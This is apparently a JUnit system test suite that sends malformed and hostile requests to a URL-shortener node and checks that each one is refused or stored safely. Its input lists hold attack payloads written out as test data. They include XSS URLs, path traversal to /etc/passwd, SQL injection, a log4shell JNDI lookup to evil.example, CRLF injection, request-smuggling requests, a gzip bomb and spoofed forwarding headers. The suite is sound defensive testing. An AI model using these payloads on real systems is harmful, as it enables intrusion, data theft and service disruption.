package io.ratelimiter.systemtests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.ratelimiter.realservers.PostgresDatabase;
import io.ratelimiter.realservers.RealServers;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Malformed and hostile requests against every public endpoint of a shortener node (limiter on, behind a trusted
 * proxy): dangerous and malformed URLs, malformed bodies, wrong content types, oversized and smuggling-shaped
 * requests, traversal and injection in paths, spoofed forwarding headers. Each is refused with a 4xx problem (never
 * a 500, never a dropped connection) or, where it is a valid if odd link, stored and redirected exactly. Afterwards
 * the database holds only safe links that were acknowledged, and Redis only state keyed by IP addresses.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ShortenerHostileInputTest {

    private static final String SUITE = "hostile-shortener";

    private PostgresDatabase database;
    private ShortenerNode node;
    private String prefix;
    private URI uri;
    private final Set<String> acknowledged = ConcurrentHashMap.newKeySet();

    @BeforeAll
    void start() {
        database = RealServers.postgres().createDatabase("hostile");
        prefix = ShortenerNode.uniquePrefix(SUITE);
        node = ShortenerNode.start(ShortenerNode.properties(RealServers.redis().uri(), database, prefix));
        uri = node.uri();
    }

    @AfterAll
    void stop() {
        node.close();
    }

    static Stream<Arguments> refusedUrls() {
        return Stream.of(
                arguments("javascript: scheme", "javascript:alert(document.cookie)"),
                arguments("javascript: in capitals", "JaVaScRiPt:alert(1)"),
                arguments("javascript: behind spaces", "  javascript:alert(1)"),
                arguments("javascript: split by a tab", "java\tscript:alert(1)"),
                arguments("javascript: as HTML entities", "jav&#x09;ascript:alert(1)"),
                arguments("data: HTML", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
                arguments("vbscript:", "vbscript:msgbox(1)"),
                arguments("file:", "file:///etc/passwd"),
                arguments("file: with a host", "file://localhost/c:/windows/win.ini"),
                arguments("ftp:", "ftp://example.org/pub"),
                arguments("ws:", "ws://example.org/socket"),
                arguments("blob:", "blob:https://example.org/2b6f1c6e"),
                arguments("view-source:", "view-source:https://example.org/"),
                arguments("intent:", "intent://scan/#Intent;scheme=zxing;end"),
                arguments("mailto:", "mailto:victim@example.org"),
                arguments("protocol-relative", "//evil.example/phish"),
                arguments("no slashes after the scheme", "https:evil.example"),
                arguments("backslashes", "https:\\\\evil.example\\"),
                arguments("backslash before @", "https://example.org\\@evil.example/"),
                arguments("credentials", "https://user:password@example.org/"),
                arguments("a user name", "https://admin@example.org/"),
                arguments("a host that is userinfo", "https://example.org@evil.example/"),
                arguments("NUL", "https://example.org/\u0000"),
                arguments("CRLF header injection", "https://example.org/\r\nSet-Cookie: session=evil"),
                arguments("DEL", "https://example.org/\u007f"),
                arguments("C1 control NEL", "https://example.org/\u0085"),
                arguments("a space", "https://example.org/a b"),
                arguments("a non-breaking space", "https://example.org/a\u00a0b"),
                arguments("zero-width space in the host", "https://exa\u200bmple.org/"),
                arguments("fullwidth scheme", "\uff48\uff54\uff54\uff50\uff53://example.org/"),
                arguments("Cyrillic homograph host", "https://\u0430pple.com/"),
                arguments("right-to-left override in the host", "https://example\u202egro.evil/"),
                arguments("no host", "http:///path"),
                arguments("relative", "/relative/path"),
                arguments("empty", ""),
                arguments("blank", " \t "),
                arguments("one character over the length limit", "https://example.org/" + "a".repeat(2029)),
                arguments("an invalid percent escape", "https://example.org/%zz"),
                arguments("log4shell in the path", "https://example.org/${jndi:ldap://evil.example/a}"),
                arguments("template expression", "https://example.org/{{7*7}}"),
                arguments("EL expression", "https://example.org/#{7*7}"),
                arguments("HTML in the path", "https://example.org/\"><script>alert(1)</script>"),
                arguments("SQL with spaces", "https://example.org/' OR '1'='1"),
                arguments("SQL without a scheme", "';DROP TABLE short_link;--"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedUrls")
    @Order(1)
    void urlsThatAreNotSafeHttpLinksAreRefusedAs400Problems(String what, String url) {
        Http.Answer json = Http.shortenJson(uri, url);
        Figures.answer(SUITE, "url, " + what, json);

        Problems.assertProblem(json, 400);
        Problems.assertProblem(Http.shortenForm(uri, url), 400);
    }

    static Stream<Arguments> oddButValidUrls() {
        return Stream.of(
                arguments("SQL in the query", "https://example.org/?q=';DROP%20TABLE%20short_link;--"),
                arguments("SQL quotes in the path", "https://example.org/it's;--"),
                arguments("encoded log4shell", "https://example.org/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
                arguments("encoded CRLF", "https://example.org/%0d%0aSet-Cookie:%20session=evil"),
                arguments("encoded traversal", "https://example.org/%2e%2e/%2e%2e/etc/passwd"),
                arguments("an IPv4 host", "http://192.0.2.10:8080/x"),
                arguments("an IPv6 host", "http://[2001:db8::1]/x"),
                arguments("loopback", "http://127.0.0.1/admin"),
                arguments("cloud metadata address", "http://169.254.169.254/latest/meta-data/"),
                arguments("punycode host", "https://xn--bcher-kva.example/"),
                arguments("a fragment hiding a host", "https://evil.example/#@example.org"),
                arguments("the length limit exactly", "https://example.org/" + "b".repeat(2028)),
                arguments("right-to-left override in the path", "https://example.org/\u202egnp.exe"),
                arguments("unicode in the path", "https://example.org/caf\u00e9/\u65e5\u672c"),
                arguments("an emoji in the query", "https://example.org/?q=\ud83d\ude00"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("oddButValidUrls")
    @Order(2)
    void oddButValidLinksAreStoredAndRedirectedToExactlyThatAddress(String what, String url) {
        Http.Answer shortened = Http.shortenJson(uri, url);
        assertThat(shortened.status()).as("%s", shortened).isEqualTo(200);
        acknowledged.add(URI.create(url).toASCIIString());

        Http.Answer redirect = Http.get(uri, "/" + shortened.code());
        Figures.answer(SUITE, "odd but valid url, " + what, redirect);

        assertThat(redirect.status()).isEqualTo(302);
        String location = redirect.header("Location").orElseThrow();
        assertThat(location).as("Location is plain ASCII, so no proxy or browser reads it differently")
                .matches("[\\x21-\\x7e]+");
        assertThat(URI.create(location)).isEqualTo(URI.create(URI.create(url).toASCIIString()));
        assertThat(redirect.header("Set-Cookie")).isEmpty();
    }

    static Stream<Arguments> refusedBodies() {
        String json = "application/json";
        String form = "application/x-www-form-urlencoded";
        return Stream.of(
                arguments("truncated JSON", json, "{\"url\":", Set.of(400)),
                arguments("not JSON", json, "not json", Set.of(400)),
                arguments("a JSON array", json, "[\"https://example.org/\"]", Set.of(400)),
                arguments("a JSON number", json, "{\"url\": 42}", Set.of(400)),
                arguments("a JSON boolean", json, "{\"url\": true}", Set.of(400)),
                arguments("a JSON object as the url", json, "{\"url\": {\"href\": \"https://example.org/\"}}", Set.of(400)),
                arguments("a JSON list as the url", json, "{\"url\": [\"https://example.org/list\"]}", Set.of(200, 400)),
                arguments("NaN", json, "{\"url\": NaN}", Set.of(400)),
                arguments("escaped javascript:", json, "{\"url\": \"java\\u0073cript:alert(1)\"}", Set.of(400)),
                arguments("a lone surrogate", json, "{\"url\": \"https://example.org/\\ud800\"}", Set.of(400)),
                arguments("5,000 levels of nesting", json, "[".repeat(5000) + "]".repeat(5000), Set.of(400)),
                arguments("deep nesting inside the object", json, "{\"url\":" + "[".repeat(3000) + "]".repeat(3000) + "}", Set.of(400)),
                arguments("a duplicate key smuggling javascript:", json,
                        "{\"url\":\"https://example.org/dup\",\"url\":\"javascript:alert(1)\"}", Set.of(200, 400)),
                arguments("empty JSON", json, "", Set.of(400)),
                arguments("whitespace JSON", json, "   \n ", Set.of(400)),
                arguments("a 1 MB URL", json, "{\"url\":\"https://example.org/" + "a".repeat(1_000_000) + "\"}", Set.of(413)),
                arguments("a 1 MB form", form, "url=https%3A%2F%2Fexample.org%2F" + "a".repeat(1_000_000), Set.of(413)),
                arguments("an invalid percent escape in a form", form, "url=%ZZ", Set.of(400)),
                arguments("a form without url", form, "href=https%3A%2F%2Fexample.org%2F", Set.of(400)),
                arguments("an empty form", form, "", Set.of(400)),
                arguments("a form of only separators", form, "&&==&=&", Set.of(400)),
                arguments("a second url smuggling javascript:", form,
                        "url=https%3A%2F%2Fexample.org%2Fdup2&url=javascript%3Aalert(1)", Set.of(200, 400)),
                arguments("3,000 form fields", form, "a=1&".repeat(3000), Set.of(400, 413)),
                arguments("text/plain", "text/plain", "https://example.org/", Set.of(415)),
                arguments("XML", "application/xml", "<url>https://example.org/</url>", Set.of(415)),
                arguments("multipart", "multipart/form-data; boundary=b",
                        "--b\r\nContent-Disposition: form-data; name=\"url\"\r\n\r\nhttps://example.org/\r\n--b--\r\n", Set.of(415)),
                arguments("an unknown type", "application/x-evil", "url=https%3A%2F%2Fexample.org%2F", Set.of(415)),
                arguments("a type with a bogus charset", "application/json; charset=evil-7",
                        "{\"url\":\"https://example.org/charset\"}", Set.of(200, 400, 415)));
    }

    /**
     * Where the body is malformed only in a way the JSON or form reader forgives (a one-element list, a repeated
     * key or field, an unknown charset), a 200 is acceptable if what was stored is a safe link: the last check of
     * this suite reads every stored link.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedBodies")
    @Order(3)
    void malformedBodiesAndWrongContentTypesAreRefusedAsProblems(String what, String contentType, String body,
                                                                 Set<Integer> allowed) {
        Http.Answer answer = Http.post(uri, "/shorten", contentType, body);
        Figures.answer(SUITE, "POST /shorten, " + what, answer);

        assertThat(answer.status()).as("%s", answer).isIn(allowed);
        if (answer.status() == 200) {
            acknowledged.add(Http.get(uri, "/" + answer.code()).header("Location").orElseThrow());
        } else {
            Problems.assertProblemBody(answer);
        }
    }

    static Stream<Arguments> hostilePaths() {
        return Stream.of(
                arguments("traversal", "/../../etc/passwd"),
                arguments("encoded traversal", "/%2e%2e/%2e%2e/etc/passwd"),
                arguments("encoded slashes", "/..%2f..%2fetc%2fpasswd"),
                arguments("encoded backslashes", "/..%5c..%5cwindows%5cwin.ini"),
                arguments("overlong UTF-8 dots", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
                arguments("invalid UTF-8", "/%ff%fe"),
                arguments("NUL", "/abcdefgh%00"),
                arguments("NUL alone", "/%00"),
                arguments("CRLF", "/abc%0d%0aSet-Cookie:%20session=evil"),
                arguments("SQL", "/abc'%20OR%20'1'='1"),
                arguments("SQL without spaces", "/1;DROP%20TABLE%20short_link"),
                arguments("HTML", "/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
                arguments("template", "/$%7B7*7%7D"),
                arguments("a long code", "/" + "A".repeat(17)),
                arguments("a 3,000 character code", "/" + "A".repeat(3000)),
                arguments("unicode", "/caf%C3%A9"),
                arguments("an unknown deeper path", "/abc/def/ghi"),
                arguments("a dot file", "/.env"),
                arguments("a well-formed unknown code", "/ZZZZZZZZ"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostilePaths")
    @Order(4)
    void hostilePathsAreUnknownCodesNeverFiles(String what, String path) {
        Http.Answer answer = RawHttp.exchange(uri, "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        Figures.answer(SUITE, "path, " + what, answer);

        Problems.assertClientError(answer);
        assertThat(answer.status()).isIn(400, 404);
        assertThat(answer.headers()).doesNotContainKey("Set-Cookie");
        assertThat(answer.body()).doesNotContain("root:x:0:0");
    }

    static Stream<Arguments> malformedRequests() {
        String huge = "a".repeat(20_000);
        return Stream.of(
                arguments("a header over 16 KB", "GET / HTTP/1.1\r\nHost: localhost\r\nX-Big: " + huge + "\r\nConnection: close\r\n\r\n"),
                arguments("1,000 headers", "GET / HTTP/1.1\r\nHost: localhost\r\n" + "X-Many: 1\r\n".repeat(1000) + "Connection: close\r\n\r\n"),
                arguments("a request line over 8 KB", "GET /" + huge + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
                arguments("a bare CR inside a header", "GET / HTTP/1.1\r\nHost: localhost\r\nX-Evil: a\rSet-Cookie: b\r\nConnection: close\r\n\r\n"),
                arguments("a header without a colon", "GET / HTTP/1.1\r\nHost: localhost\r\nNo colon here\r\nConnection: close\r\n\r\n"),
                arguments("a space before the colon", "GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length : 5\r\nConnection: close\r\n\r\nhello"),
                arguments("two different Content-Lengths", "POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + "Content-Length: 5\r\nContent-Length: 40\r\nConnection: close\r\n\r\n{\"url\":\"https://example.org/cl\"}"),
                arguments("Content-Length and chunked together", "POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                        + "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"),
                arguments("a negative Content-Length", "POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + "Content-Length: -1\r\nConnection: close\r\n\r\n"),
                arguments("a Content-Length that is not a number", "POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + "Content-Length: ten\r\nConnection: close\r\n\r\n"),
                arguments("a broken chunk size", "POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"),
                arguments("an announced 10 GB body", "POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        + "Content-Length: 10000000000\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n"),
                arguments("a request line of garbage", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u01fc\u0003\u0003 not http\r\n\r\n"),
                arguments("a method of 5,000 letters", "X".repeat(5000) + " / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
                arguments("non-ASCII bytes in a header", "GET /ZZZZZZZZ HTTP/1.1\r\nHost: localhost\r\nX-Bytes: \u00ff\u00fe\u0080\r\nConnection: close\r\n\r\n"),
                arguments("an absolute-form target of another host", "GET http://evil.example/ZZZZZZZZ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
                arguments("an asterisk target on GET", "GET * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
                arguments("TRACE", "TRACE / HTTP/1.1\r\nHost: localhost\r\nX-Secret: reflect-me\r\nConnection: close\r\n\r\n"),
                arguments("PUT on /shorten", "PUT /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
                arguments("DELETE on a code", "DELETE /ZZZZZZZZ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
                arguments("an invented method", "BREW /shorten HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformedRequests")
    @Order(5)
    void malformedRequestsAreRefusedWithA4xx(String what, String request) {
        Http.Answer answer = RawHttp.exchange(uri, request);
        Figures.answer(SUITE, "request, " + what, answer);

        assertThat(answer.status()).as("%s", answer).isBetween(400, 499);
        assertThat(answer.body()).doesNotContain("reflect-me").doesNotContain("Exception").doesNotContain("\tat ");
        if (!answer.body().isEmpty()) {
            Problems.assertProblemBody(answer);
        }
    }

    @Test
    @Order(6)
    void aGzipBombIsRefusedBeforeItIsInflatedPastTheBodyLimit() {
        byte[] bomb = gzip("{\"url\":\"https://example.org/" + "a".repeat(5_000_000) + "\"}");
        assertThat(bomb.length).isLessThan(16_384);
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        request.writeBytes(("POST /shorten HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                + "Content-Encoding: gzip\r\nContent-Length: " + bomb.length + "\r\nConnection: close\r\n\r\n")
                .getBytes(StandardCharsets.ISO_8859_1));
        request.writeBytes(bomb);

        Http.Answer answer = RawHttp.exchange(uri, request.toByteArray());

        Figures.answer(SUITE, "gzip bomb", answer);
        Problems.assertClientError(answer);
        Figures.report(SUITE, "gzip bomb of " + bomb.length + " bytes (5 MB inflated)", answer.status() + " in " + answer.millis() + " ms");
    }

    static Stream<Arguments> forwardingHeaders() {
        return Stream.of(
                arguments("a chain", List.of("X-Forwarded-For", "192.0.2.1, 198.51.100.7")),
                arguments("a script", List.of("X-Forwarded-For", "<script>alert(1)</script>")),
                arguments("log4shell", List.of("X-Forwarded-For", "${jndi:ldap://evil.example/a}")),
                arguments("unknown and obfuscated", List.of("X-Forwarded-For", "unknown, _hidden, 198.51.100.8")),
                arguments("an impossible address", List.of("X-Forwarded-For", "999.999.999.999")),
                arguments("ports and brackets", List.of("X-Forwarded-For", "198.51.100.9:4711, [2001:db8::9]:443")),
                arguments("a mapped IPv6 address", List.of("X-Forwarded-For", "::ffff:198.51.100.10")),
                arguments("a zone id", List.of("X-Forwarded-For", "fe80::1%eth0")),
                arguments("a host name", List.of("X-Forwarded-For", "localhost")),
                arguments("600 hops", List.of("X-Forwarded-For", String.join(", ", Collections.nCopies(600, "10.0.0.1")))),
                arguments("ten headers", tenHeaders()),
                arguments("Forwarded with obfuscated nodes", List.of("Forwarded", "for=\"_gazonk\", for=unknown")),
                arguments("Forwarded with IPv6 and port", List.of("Forwarded", "for=\"[2001:db8:cafe::17]:4711\";proto=https")),
                arguments("Forwarded with garbage", List.of("Forwarded", "for=;;;,,,=\"\"")),
                arguments("X-Real-IP alone", List.of("X-Real-IP", "203.0.113.66")));
    }

    private static List<String> tenHeaders() {
        List<String> headers = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            headers.add("X-Forwarded-For");
            headers.add("198.51.100." + (20 + i));
        }
        return headers;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("forwardingHeaders")
    @Order(7)
    void spoofedForwardingHeadersAreAnsweredNormally(String what, List<String> headers) {
        StringBuilder request = new StringBuilder("GET / HTTP/1.1\r\nHost: localhost\r\n");
        for (int i = 0; i + 1 < headers.size(); i += 2) {
            request.append(headers.get(i)).append(": ").append(headers.get(i + 1)).append("\r\n");
        }
        Http.Answer answer = RawHttp.exchange(uri, request.append("Connection: close\r\n\r\n").toString());
        Figures.answer(SUITE, "forwarding header, " + what, answer);

        assertThat(answer.status()).as("%s", answer).isEqualTo(200);
        assertThat(answer.header("RateLimit-Policy")).as("counted by the limiter").isPresent();
    }

    @Test
    @Order(8)
    void aForgedHostHeaderDoesNotBreakShortening() {
        for (String host : List.of("evil.example", "<script>", "example.org:99999", "[::1", "")) {
            Http.Answer answer = RawHttp.exchange(uri, "POST /shorten HTTP/1.1\r\nHost: " + host
                    + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 38\r\nConnection: close\r\n\r\n"
                    + "url=https%3A%2F%2Fexample.org%2Fhost12");
            Figures.answer(SUITE, "Host: " + host, answer);
            assertThat(answer.status()).as("Host: %s -> %s", host, answer).isIn(200, 400);
            if (answer.status() == 400) {
                Problems.assertProblemBody(answer);
            }
        }
        acknowledged.add("https://example.org/host12");
    }

    @Test
    @Order(100)
    void afterwardsTheDatabaseHoldsOnlyAcknowledgedSafeLinksAndRedisOnlyAddresses() throws SQLException {
        List<String> stored = new ArrayList<>();
        try (Connection connection = DriverManager.getConnection(database.jdbcUrl(), database.username(), database.password());
             Statement statement = connection.createStatement();
             ResultSet rows = statement.executeQuery("SELECT url FROM shortener.short_link")) {
            while (rows.next()) {
                stored.add(rows.getString(1));
            }
        }
        assertThat(stored).allSatisfy(url -> assertThat(url)
                .matches("https?://[^\\s@/\\\\]+(/.*)?")
                .doesNotContainPattern("\\p{Cntrl}")
                .hasSizeLessThanOrEqualTo(2048));
        assertThat(acknowledged).as("every acknowledged link is stored").isSubsetOf(stored);
        assertThat(stored).as("nothing stored that was not acknowledged").isSubsetOf(acknowledged);

        RedisKeys redis = RedisKeys.on(RealServers.redis());
        List<String> keys = redis.keys(prefix);
        assertThat(keys).allSatisfy(key -> assertThat(key.length()).as(key).isLessThan(200));
        assertThat(redis.windows(prefix)).isNotEmpty().allSatisfy(window -> {
            String identity = window.split(" ")[0];
            assertThat(identity).as("identity of window %s", window).matches("[0-9.]+|[0-9a-f:]*:[0-9a-f:]*(/64)?");
        });
        assertThat(redis.immortalState(prefix)).isEmpty();
    }

    private static byte[] gzip(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
